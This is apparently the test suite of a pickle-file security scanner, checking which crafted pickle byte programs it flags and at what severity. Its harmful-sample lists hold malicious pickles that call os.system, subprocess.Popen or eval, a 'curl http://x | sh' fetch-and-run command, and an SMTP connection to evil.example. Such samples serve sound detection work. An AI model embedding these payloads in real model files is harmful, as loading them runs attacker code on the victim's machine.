"""Verdicts about what pickles call."""

from __future__ import annotations

import time

import pytest
from picklescan import scanner  # type: ignore[import-untyped]

from aibom.scanners.artifact import Artifact, Target
from aibom.scanners.capability import Ability, import_runs, of, verdict
from aibom.scanners.dissect import dissect
from aibom.scanners.judge import judge
from aibom.scanners.limits import Budget, Limits
from aibom.scanners.rule import Severity
from aibom.scanners.source import BytesSource

# Judged by their arguments, where picklescan judges the name: harmless in honest files.
BY_ARGUMENTS = {
    ("functools", "partial"), ("operator", "itemgetter"), ("_operator", "itemgetter"),
    ("operator", "attrgetter"), ("_operator", "attrgetter"), ("operator", "methodcaller"),
    ("_operator", "methodcaller"),
}  # fmt: skip


def worst(program: bytes) -> Severity:
    artifact: Artifact = dissect(BytesSource(program), ("model.pkl",), Budget(Limits()))
    return max((each.severity for each in judge(Target((artifact,)))), default=Severity.INFO)


def deny_list() -> list[tuple[str, str]]:
    """Return every name that picklescan refuses; for a whole module, one that no table lists."""
    found: list[tuple[str, str]] = []
    for module, names in vars(scanner)["_unsafe_globals"].items():
        given = ["whatever"] if names == "*" else [names] if isinstance(names, str) else names
        found += [(module, name) for name in given]
    return sorted(set(found) - BY_ARGUMENTS)


@pytest.mark.parametrize(("module", "name"), deny_list())
def test_flags_every_call_that_picklescan_flags(module: str, name: str) -> None:
    program = f"\x80\x04c{module}\n{name}\n(S'id'\ntR.".encode("latin-1")
    if verdict(module, name).ability is Ability.CALLBACK:
        program = program.replace(b"S'id'\n", b"cos\nsystem\nS'id'\n")
    assert worst(program) >= Severity.HIGH


HARMLESS = [
    b"\x80\x04cbuiltins\ngetattr\nczoneinfo\nZoneInfo\n\x8c\x09_unpickle\x86R\x8c\3UTCK\1\x86R.",
    b"\x80\x04ccollections\nOrderedDict\n)R.",
    b"\x80\x04cfunctools\npartial\nctorch.nn.functional\ngelu\n\x85R.",
    b"\x80\x04coperator\nitemgetter\nK\x01\x85R.",
    b"\x80\x04cbuiltins\ngetattr\ncmymodel\nColour\n\x8c\x03RED\x86R.",
    b"\x80\x02c_codecs\nencode\nX\x02\0\0\0\xc3\xa9X\x06\0\0\0latin1\x86R.",
    b"\x80\x04ccollections\ndefaultdict\ncbuiltins\nlist\n\x85R.",
    b"\x80\x02ccopy_reg\n_reconstructor\n(cmymodel\nNet\nc__builtin__\nobject\nNtR}b.",
    b"\x80\x04cdatetime\ndatetime\nC\n\x07\xea\1\1\0\0\0\0\0\0\x85R.",
    b"\x80\x04cpathlib\nPosixPath\n(\x8c\1/\x8c\3etctR.",
]


@pytest.mark.parametrize("program", HARMLESS)
def test_lets_legitimate_uses_pass(program: bytes) -> None:
    assert worst(program) <= Severity.LOW


HARMFUL = [
    b"\x80\x04cbuiltins\ngetattr\ncmymodel\nNet\n\x8c\4make\x86R)R.",
    b"\x80\x04cfunctools\npartial\ncos\nsystem\n\x8c\2id\x86R.",
    b"\x80\x04cbuiltins\ngetattr\ncos\npath\n\x8c\2os\x86R.",
    b"\x80\x04cbuiltins\ngetattr\ncmymodel\nColour\n\x8c\x0b__globals__\x86R.",
    b"\x80\x04\x8c\x13torch.serialization\x8c\x09os.system\x93\x8c\2id\x85R.",
    b"\x80\x04\x8c\x0ctorch._utils\x8c\x24_rebuild_tensor_v2.__globals__.get  \x93.",
    b"\x80\x04csys\nmodules\n\x8c\1aK\1s.",
    b"\x80\x04cnumpy\nndarray\n}\x8c\1aK\1sb.",
    b"\x80\x02\x82\x01)R.",
    b"\x80\x04cunknown\nthing\n\x8c\x0b/etc/passwd\x85R.",
    b"\x80\x04cantigravity\nx\n.",
    b"\x80\x04ccloudpickle.cloudpickle\n_make_function\n)R.",
    b"\x80\x04ctorch\nload\n\x8c\5other\x85R.",
]


@pytest.mark.parametrize("program", HARMFUL)
def test_flags_what_is_dangerous_by_kind(program: bytes) -> None:
    assert worst(program) >= Severity.HIGH


@pytest.mark.parametrize(
    ("program", "severity"),
    [
        (b"\x80\x04cx\nrun\n\x8c\2sh\x85R.", Severity.HIGH),
        (b"\x80\x04cfoo\nload\n\x8c\4evil\x85R.", Severity.HIGH),
        (b"\x80\x04cx\nrun\n]\x8c\2sha\x85R.", Severity.HIGH),
        (b"\x80\x04cx\nNet.run\nK\1\x8c\4a-b.\x86R.", Severity.HIGH),
        (b"\x80\x04cx\n_run\n}\x8c\4kindK\1s\x85R.", Severity.MEDIUM),
        (b"\x80\x04cx\nrun\n\x8c\0\x85R.", Severity.MEDIUM),
        (b"\x80\x04cx\nColour\n\x8c\3red\x85R.", Severity.MEDIUM),
        (b"\x80\x04cx\n_Colour\nK\3\x85R.", Severity.MEDIUM),
        (b"\x80\x04cx\nRunner\n\x8c\7rm x -r\x85R.", Severity.HIGH),
    ],
    ids=["word", "module", "in a list", "method", "in a dict", "empty", "enum by word",
         "enum by number", "command to a class"],
)  # fmt: skip
def test_a_word_counts_for_an_unknown_function(program: bytes, severity: Severity) -> None:
    assert worst(program) is severity


def test_an_exact_name_wins_over_its_module() -> None:
    assert verdict("copyreg", "_reconstructor").ability is Ability.HARMLESS
    assert verdict("copyreg", "add_extension").ability is Ability.PATCH
    assert of("uuid.UUID").ability is Ability.HARMLESS


def test_what_can_do_harm_covers_its_attributes() -> None:
    assert verdict("subprocess", "Popen.communicate").ability is Ability.PROCESS
    assert verdict("builtins", "eval.__call__").ability is Ability.CODE


def test_a_name_that_no_table_holds_is_unknown() -> None:
    assert verdict("nowhere", "nothing").ability is Ability.UNKNOWN
    assert not import_runs("nowhere", "nothing")


@pytest.mark.parametrize("start", ["zz.q", "os.q", "torch.q", "zz.os.q"])
def test_deep_names_are_judged_soon_and_never_harmless(start: str) -> None:
    begun = time.process_time()
    for number in range(100):
        dotted = f"{start}{number}" + ".os.a" * 120
        assert of(dotted).is_dangerous
        assert verdict(*dotted.rsplit(".", 1)).is_dangerous
    assert time.process_time() - begun < 5


def test_names_up_to_the_limit_are_judged_soon() -> None:
    begun = time.process_time()
    for number in range(100):
        assert of(f"zz.q{number}" + ".a" * 14).ability is Ability.UNKNOWN
        assert of(f"zz.q{number}" + ".os" * 13 + ".system").is_dangerous
        assert not of(f"numpy.q{number}" + ".random.numpy" * 7).is_dangerous
    assert time.process_time() - begun < 5


def test_depth_takes_no_grave_verdict_away() -> None:
    assert of("os.system" + ".__call__" * 240).ability is Ability.PROCESS
    assert of("builtins.eval" + ".__call__" * 240).ability is Ability.CODE
    assert of("zz.os.system" + ".a" * 240).is_dangerous


def test_deep_names_are_flagged_when_called() -> None:
    name = "q" + ".a" * 240
    assert worst(f"\x80\x04czz\n{name}\n)R.".encode("latin-1")) >= Severity.HIGH
    assert worst(f"\x80\x04czz\n{name}\n.".encode("latin-1")) >= Severity.HIGH


def found(program: bytes, name: str = "model.pkl") -> set[str]:
    artifact: Artifact = dissect(BytesSource(program), (name,), Budget(Limits()))
    judged = judge(Target((artifact,)))
    return {each.rule for each in judged if each.severity >= Severity.MEDIUM}


# dill's own helper for the variables of a function: getattr(dill._dill, "_setattr", setattr)
CELL = (
    b"\x80\x04cdill._dill\n_create_cell\nN\x85R\x94cbuiltins\ngetattr\ncdill\n_dill\n"
    b"\x8c\x08_setattrcbuiltins\nsetattr\n\x87Rh\0\x8c\x0dcell_contentsK\x03\x87R0."
)
BY_TYPE = b"\x80\x04ccloudpickle.cloudpickle\n_builtin_type\n\x8c\x08CodeType\x85R(K\0tR."
MAIN_ARGUMENT = b"\x80\x04cdill._dill\n_create_function\nNc__builtin__\n__main__\n\x86R."


@pytest.mark.parametrize(
    "program", [CELL, BY_TYPE, MAIN_ARGUMENT], ids=["dill", "cloudpickle", "main"]
)
def test_a_carried_function_carries_code_and_nothing_worse(program: bytes) -> None:
    assert found(program) == {"pickle-carries-code"}


@pytest.mark.parametrize(
    "program",
    [
        CELL.replace(b"_create_cell\nN\x85R", b"_create_type\nN\x85R"),
        CELL.replace(b"\x8c\x0dcell_contents", b"\x8c\x0dcell_contentx"),
        CELL.replace(b"\x8c\x08_setattrcbuiltins\nsetattr", b"\x8c\x08_setattrcbuiltins\ndelattr"),
    ],
    ids=["no cell", "another attribute", "another default"],
)
def test_dills_helper_is_judged_by_its_arguments(program: bytes) -> None:
    assert worst(program) is Severity.CRITICAL


CYTHON = b"\x80\x04cmodels._fast\n__pyx_unpickle_Loss\ncmodels._fast\nLoss\nJ\1\2\3\4)\x87R."


def test_an_object_that_cython_rebuilds_is_a_rebuilt_class() -> None:
    assert worst(CYTHON) is Severity.LOW
    assert worst(CYTHON.replace(b"cmodels._fast\nLoss", b"csubprocess\nPopen")) is Severity.CRITICAL
    assert worst(CYTHON.replace(b"J\1\2\3\4", b"\x8c\4/etc")) is Severity.HIGH
    assert worst(CYTHON.replace(b"models._fast\n__pyx", b"subprocess\n__pyx")) is Severity.CRITICAL


def test_one_cause_is_one_finding() -> None:
    artifact = dissect(BytesSource(b"cposix\nsystem\n(S'id'\ntR."), ("x",), Budget(Limits()))
    (only,) = judge(Target((artifact,)))
    assert only.message == "REDUCE calls posix.system('id'), which starts a program"


ONE_CAUSE = {
    "called": (b"cposix\nsystem\n(S'id'\ntR.", "pickle-spawns-process"),
    "through another module": (b"cmymodel\nos.system\n.", "pickle-walks-attributes"),
    "called by way of a module": (b"cmymodel\nos.system\n(S'id'\ntR.", "pickle-spawns-process"),
    "a module": (b"ctorch.serialization\nos\n.", "pickle-imports-module"),
    "made while loading": (
        b"\x80\4\x8c\2osccollections\nOrderedDict\n)R\x93.", "pickle-imports-computed-name",
    ),
    "acts when imported": (b"cantigravity\nfly\n.", "pickle-import-runs-code"),
    "unknown with text": (b"cm\nf\n(S'/bin/x'\ntR.", "pickle-calls-unknown-with-text"),
    "unknown, given to a caller with text": (
        b"cbuiltins\nmap\n(c_x\nrun\n(S'sh'\nltR.", "pickle-calls-back-unknown",
    ),
    "given to a caller": (b"cfunctools\npartial\n(cos\nsystem\ntR.", "pickle-calls-back"),
}  # fmt: skip


@pytest.mark.parametrize(("program", "rule"), ONE_CAUSE.values(), ids=ONE_CAUSE)
def test_one_cause_is_one_finding_of_one_rule(program: bytes, rule: str) -> None:
    assert found(program) == {rule}


def test_a_dangerous_name_that_is_not_called_is_still_told() -> None:
    assert found(b"\x80\x04cposix\nsystem\n.") == {"pickle-imports-dangerous-name"}
    assert found(b"\x80\x04csocket\nsocket\n.") == {"pickle-imports-capable-name"}


def test_data_classes_of_distributed_checkpoints_pass() -> None:
    start = b"\x80\x04ctorch.distributed.checkpoint.metadata\n"
    assert found(start + b"Metadata\n)\x81}b.") == set()
    assert found(start + b"_MEM_FORMAT_ENCODING\nK\0\x85R.") == set()
    assert found(b"\x80\x04ctorch.distributed.rpc.api\nremote\n)R.") == {"pickle-executes-code"}


def calls(callee: str, arguments: list[bytes]) -> bytes:
    start = f"\x80\x04c{callee}\n\x940".encode("latin-1")
    return start + b"".join(b"h\0" + each + b"R0" for each in arguments) + b"N."


MANY_MEMBERS = [b"cmodels\nColour\n\x8c\4C%03d\x86" % n for n in range(600)]


def test_very_many_harmless_calls_of_one_function_pass() -> None:
    assert worst(calls("builtins\ngetattr", MANY_MEMBERS)) <= Severity.LOW
    assert (
        worst(calls("decimal\nDecimal", [b"\x8c\4%4d\x85" % n for n in range(600)])) <= Severity.LOW
    )


def test_one_call_among_very_many_is_found() -> None:
    dunder = b"cmodels\nColour\n\x8c\x0b__globals__\x86"
    assert worst(calls("builtins\ngetattr", [*MANY_MEMBERS, dunder])) is Severity.CRITICAL
    numbers = [b"M" + n.to_bytes(2, "little") + b"\x85" for n in range(600)]
    assert worst(calls("some\nthing", numbers)) is Severity.MEDIUM
    assert worst(calls("some\nthing", [*numbers, b"\x8c\6/bin/x\x85"])) is Severity.HIGH


@pytest.mark.parametrize(
    "program",
    [
        b"ccopy_reg\n_reconstructor\n(cargparse\nNamespace\nclogging\nFileHandler\nV/home/u/x\ntR.",
        b"ccopy_reg\n_reconstructor\n(cargparse\nNamespace\ncsmtplib\nSMTP\nVevil.example\ntR.",
        b"ccopy_reg\n_reconstructor\n(cx.y\nRunner\ncx.y\nRunner\nVcurl http://x | sh\ntR.",
    ],
    ids=["writes", "connects", "unknown with a command"],
)
def test_the_base_that_a_reconstructor_calls_is_judged(program: bytes) -> None:
    assert worst(program) >= Severity.HIGH


def test_a_reconstructor_with_a_plain_base_is_a_rebuild() -> None:
    program = b"ccopy_reg\n_reconstructor\n(cmymodel\nNet\nc__builtin__\ndict\n(dtR."
    assert worst(program) <= Severity.LOW


@pytest.mark.parametrize(
    ("program", "rule"),
    [
        (b"\x80\x04cbuiltins\nmap\nc_x\nrun\n]\x8c\2sha\x86R.", "pickle-calls-back-unknown"),
        (b"\x80\x04cfunctools\nreduce\nc_x\nrun\n]\x8c\2sha\x86R.", "pickle-calls-back-unknown"),
        (b"\x80\x04ccollections\nUserDict\n)\x81}\x8c\4datacsys\nmodules\nsb.",
         "pickle-imports-dangerous-name"),
        (b"\x80\x04]cimportlib\nimport_module\na.", "pickle-imports-capable-name"),
    ],
    ids=["mapped", "reduced", "modules in a state", "resolver in a list"],
)  # fmt: skip
def test_what_is_handed_on_counts(program: bytes, rule: str) -> None:
    assert rule in found(program)


def test_a_class_in_a_class_is_rebuilt_and_not_computed() -> None:
    inner = b"\x80\x02cbuiltins\ngetattr\ncmymodel\nNet\nX\6\0\0\0Config\x86R)\x81."
    assert worst(inner) is Severity.LOW
    assert worst(inner.replace(b")\x81.", b")R.")) is Severity.CRITICAL
    assert worst(inner.replace(b"Config", b"config")) is Severity.CRITICAL
